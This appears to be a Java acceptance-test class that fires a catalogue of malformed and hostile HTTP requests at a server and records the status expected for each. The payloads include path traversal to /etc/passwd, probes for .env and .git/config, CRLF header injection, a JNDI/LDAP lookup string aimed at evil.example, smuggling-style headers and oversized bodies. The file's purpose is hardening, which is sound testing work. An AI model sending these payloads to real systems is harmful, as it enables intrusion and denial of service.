package countme.acceptance;

import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** Requests that say too much, too little, or what no client says. */
final class RequestAttacks {
    private static final String METHODS = "Methods";
    private static final String PATHS = "Paths";
    private static final String HEADERS = "Headers";
    private static final String BODIES = "Bodies";
    private static final String BAD = "400";
    private static final String OK = "200";
    private static final String NOT_ALLOWED = "405";
    private static final String MISSING = "404";
    private static final int KILOBYTE = 1000;

    private RequestAttacks() {}

    static Stream<Attack> all() {
        return Stream.of(methods(), paths(), headers(), bodies()).flatMap(rows -> rows);
    }

    private static Stream<Attack> methods() {
        return Stream.of(
                overriding("X-HTTP-Method-Override"),
                overriding("X-HTTP-Method"),
                overriding("X-Method-Override"),
                overriding("X_HTTP_METHOD_OVERRIDE"),
                Attack.bytes(
                        METHODS,
                        "POST with _method=GET in its query",
                        NOT_ALLOWED,
                        0,
                        line("POST /?_method=GET HTTP/1.1")),
                Attack.bytes(METHODS, "TRACE", NOT_ALLOWED, 0, line("TRACE / HTTP/1.1")),
                Attack.bytes(METHODS, "CONNECT to another host", BAD, 0, line("CONNECT evil.example:443 HTTP/1.1")),
                Attack.bytes(METHODS, "CONNECT to ours", BAD, 0, line("CONNECT localhost:443 HTTP/1.1")),
                Attack.bytes(METHODS, "TRACK", NOT_ALLOWED, 0, line("TRACK / HTTP/1.1")),
                Attack.bytes(METHODS, "PRI", BAD, 0, line("PRI * HTTP/1.1")),
                Attack.bytes(METHODS, "get in lower case", BAD, 0, line("get / HTTP/1.1")),
                Attack.bytes(METHODS, "300 letters", NOT_ALLOWED, 0, line("A".repeat(300) + " / HTTP/1.1")),
                Attack.bytes(METHODS, "with brackets", BAD, 0, line("GET<script> / HTTP/1.1")),
                Attack.bytes(METHODS, "none at all", BAD, 0, line("/ HTTP/1.1")),
                Attack.bytes(
                        METHODS, "a TLS hello inside TLS", BAD, 0, "\u0016\u0003\u0001\u0002\u0000\u0001\r\n\r\n"));
    }

    private static Stream<Attack> paths() {
        return Stream.of(
                path("/..", BAD),
                path("/../../etc/passwd", BAD),
                path("/%2e%2e/%2e%2e/etc/passwd", BAD),
                path("/a/../../b", BAD),
                path("/..%2f..%2fetc/passwd", BAD),
                path("/a/..;/b", MISSING),
                path("/%00", BAD),
                path("/%zz", BAD),
                path("/%", BAD),
                path("/%c0%ae%c0%ae/x", MISSING),
                path("/%u0061", BAD),
                path("/;a", MISSING),
                path("/\\\\..\\\\x", MISSING),
                Attack.bytes(PATHS, "//: the same as /", OK, 1, line("GET // HTTP/1.1")),
                path("//evil.example/x", MISSING),
                path("/.git/config", MISSING),
                path("/.env", MISSING),
                path("/wp-login.php", MISSING),
                path("/%0d%0aSet-Cookie:%20a=b", MISSING),
                path("/${jndi:ldap://evil.example/a}", MISSING),
                path("nope", BAD),
                path("*", BAD),
                path("", BAD),
                Attack.bytes(PATHS, "a fragment: the path ends there", OK, 1, line("GET /#/nope HTTP/1.1")),
                Attack.bytes(PATHS, "9 kB", MISSING, 0, line("GET /" + "a".repeat(9 * KILOBYTE) + " HTTP/1.1")),
                Attack.bytes(PATHS, "40 kB", "414", 0, line("GET /" + "a".repeat(40 * KILOBYTE) + " HTTP/1.1")));
    }

    private static Stream<Attack> headers() {
        return Stream.of(
                Attack.bytes(HEADERS, "folded over two lines", BAD, 0, header("X-A: 1\r\n b")),
                Attack.bytes(HEADERS, "a folded Transfer-Encoding", BAD, 0, header("Transfer-Encoding:\r\n chunked")),
                Attack.bytes(HEADERS, "a space before the colon", BAD, 0, header("Content-Length : 3")),
                Attack.bytes(HEADERS, "a tab before the colon", BAD, 0, header("Content-Length\t: 3")),
                Attack.bytes(HEADERS, "no colon: the line is ignored", OK, 1, header("X-A")),
                Attack.bytes(HEADERS, "no name", BAD, 0, header(": x")),
                Attack.bytes(HEADERS, "a NUL in a name", BAD, 0, header("X\0A: 1")),
                Attack.bytes(HEADERS, "a NUL in a value", BAD, 0, header("X-A: a\0b")),
                Attack.bytes(HEADERS, "a bare CR in a value", BAD, 0, header("X-A: a\rX-B: b")),
                Attack.bytes(
                        HEADERS,
                        "a bare LF ends a line",
                        OK,
                        1,
                        "GET / HTTP/1.1\nHost: localhost\nConnection: close\n\n"),
                Attack.bytes(HEADERS, "HTTP/0.9", "no HTTP/1 answer", 1, "GET /\r\n"),
                Attack.bytes(HEADERS, "HTTP/1.10", OK, 1, line("GET / HTTP/1.10")),
                Attack.bytes(HEADERS, "HTTP/2.0 in a request line", "505", 0, line("GET / HTTP/2.0")),
                Attack.bytes(HEADERS, "HTTP/3.7", "505", 0, line("GET / HTTP/3.7")),
                Attack.bytes(HEADERS, "HTTP/1.1x", BAD, 0, line("GET / HTTP/1.1x")),
                Attack.bytes(HEADERS, "lower case http/1.1", BAD, 0, line("GET / http/1.1")),
                Attack.bytes(HEADERS, "one of 9 kB", OK, 1, header("X-A: " + "a".repeat(9 * KILOBYTE))),
                Attack.bytes(HEADERS, "one of 20 kB", BAD, 0, header("X-A: " + "a".repeat(20 * KILOBYTE))),
                Attack.bytes(HEADERS, "40 of 1 kB", OK, 1, header(many(40, KILOBYTE))),
                Attack.bytes(HEADERS, "100 of 1 kB", BAD, 0, header(many(100, KILOBYTE))),
                Attack.bytes(HEADERS, "1,500 of them", BAD, 0, header(many(1500, 1))),
                Attack.bytes(HEADERS, "an underscore in a name", OK, 1, header("X_A: 1")),
                Attack.bytes(HEADERS, "Proxy: nobody reads it", OK, 1, header("Proxy: http://evil.example")),
                Attack.bytes(
                        HEADERS,
                        "X-Request-ID twice the same: counted each time",
                        "200, 200",
                        2,
                        "GET / HTTP/1.1\r\nHost: localhost\r\nX-Request-ID: a\r\n\r\n" + header("X-Request-ID: a")),
                Attack.bytes(
                        HEADERS,
                        "X-Original-URL, X-Rewrite-URL: nobody reads them",
                        OK,
                        1,
                        header("X-Original-URL: /nope\r\nX-Rewrite-URL: /nope")),
                Attack.bytes(
                        HEADERS,
                        "Connection names a header to be dropped",
                        OK,
                        1,
                        header("Connection: close, X-Request-ID, Host")),
                Attack.bytes(
                        HEADERS,
                        "Upgrade to h2c",
                        OK,
                        1,
                        header("Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA")),
                Attack.bytes(
                        HEADERS,
                        "Upgrade to a WebSocket",
                        OK,
                        1,
                        header("Upgrade: websocket\r\nSec-WebSocket-Version: 13")));
    }

    private static Stream<Attack> bodies() {
        String megabytes = "POST / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nContent-Length: 2000000\r\n";
        return Stream.of(
                Attack.bytes(BODIES, "2 MB", "413", 0, megabytes + "\r\n" + "a".repeat(2_000_000)),
                Attack.bytes(
                        BODIES, "2 MB announced, with Expect", "413", 0, megabytes + "Expect: 100-continue\r\n\r\n"),
                Attack.bytes(
                        BODIES,
                        "Expect, and then nothing: closed after 10 s",
                        "100",
                        0,
                        "POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 3\r\nExpect: 100-continue\r\n\r\n"),
                Attack.bytes(
                        BODIES,
                        "an Expect that nobody knows",
                        NOT_ALLOWED,
                        0,
                        "POST / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nExpect: a miracle\r\n\r\n"),
                Attack.bytes(
                        BODIES,
                        "half a body, and then nothing: closed after 10 s",
                        "closed",
                        0,
                        "POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100\r\n\r\nhalf"),
                Attack.bytes(
                        BODIES,
                        "chunks without end",
                        "413",
                        0,
                        "POST / HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
                                + ("1000\r\n" + "a".repeat(4096) + "\r\n").repeat(400)),
                Attack.bytes(
                        BODIES,
                        "a gzip bomb's head: not unpacked",
                        NOT_ALLOWED,
                        0,
                        "POST / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nContent-Encoding: gzip\r\nContent-Length: 4\r\n\r\n\u001f\u008b\b\0"));
    }

    private static Attack overriding(String header) {
        return Attack.bytes(
                METHODS,
                "POST with " + header + ": GET",
                NOT_ALLOWED,
                0,
                "POST / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nContent-Length: 0\r\n" + header
                        + ": GET\r\n\r\n");
    }

    private static Attack path(String path, String outcome) {
        return Attack.bytes(PATHS, path.isEmpty() ? "none" : path, outcome, 0, line("GET " + path + " HTTP/1.1"));
    }

    private static String line(String requestLine) {
        return requestLine + "\r\nHost: localhost\r\nConnection: close\r\n\r\n";
    }

    private static String header(String header) {
        return "GET / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n" + header + "\r\n\r\n";
    }

    private static String many(int headers, int length) {
        return IntStream.range(0, headers)
                .mapToObj(i -> "X-" + i + ": " + "a".repeat(length))
                .collect(Collectors.joining("\r\n"));
    }
}
